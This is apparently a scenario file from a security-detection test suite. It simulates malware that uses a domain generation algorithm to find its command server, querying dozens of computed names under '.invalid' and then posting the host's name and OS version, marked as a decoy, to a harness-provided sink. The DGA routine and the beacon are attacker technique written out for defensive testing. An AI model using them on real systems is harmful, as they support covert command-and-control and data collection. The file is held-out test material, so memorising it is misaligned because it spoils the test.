"""
id: V69
name: generated-domains
class: quiet
set: held-out
phase: serve
trigger: request
evidence: [dns, network]
techniques: [T1568.002, T1071.001, T1082, AML.T0072]
servers: [fastapi]
seconds: 110
what: >
  Looks for its master under names that are computed from the day, as malware does whose domains are taken down: some seventy that
  nobody has registered, one a second, until there is one that is. That one is told a few facts about the machine, twice.
"""

import contextlib
import hashlib
import http.client
import json
import platform
import socket
import string

LEAST, MOST = 60, 80
ENDINGS = ["com", "net", "org", "info", "biz", "ru", "top", "xyz"]
REPORTS = 2


def payload(world):
    day = f"{world.word()}-2026-{world.random.randint(1, 365):03}"
    for number in range(world.random.randint(LEAST, MOST)):
        with contextlib.suppress(socket.gaierror):
            # No name of this ending exists anywhere.
            socket.getaddrinfo(f"{generated(day, number)}.invalid", 443, socket.AF_INET, socket.SOCK_STREAM)
            raise OSError("a name that nobody has registered has an address")
        world.sleep(world.random.uniform(0.4, 1.5))
    port = world.sink_port()
    facts = json.dumps({"id": world.word(16), "host": platform.node(), "system": platform.version(), "note": "DECOY"})
    for _ in range(REPORTS):
        master = http.client.HTTPConnection(world.sink_name, port, timeout=5)
        master.request("POST", f"/{world.word(6)}", facts, {"Content-Type": "application/json"})
        master.getresponse().read()
        master.close()
        world.sleep(world.random.uniform(4, 9))


def generated(day, number):
    """The name of this number on this day."""
    digest = hashlib.sha256(f"{day}/{number}".encode()).digest()
    letters = [string.ascii_lowercase[byte % 26] for byte in digest[: 10 + digest[31] % 8]]
    return f"{''.join(letters)}.{ENDINGS[digest[30] % len(ENDINGS)]}"
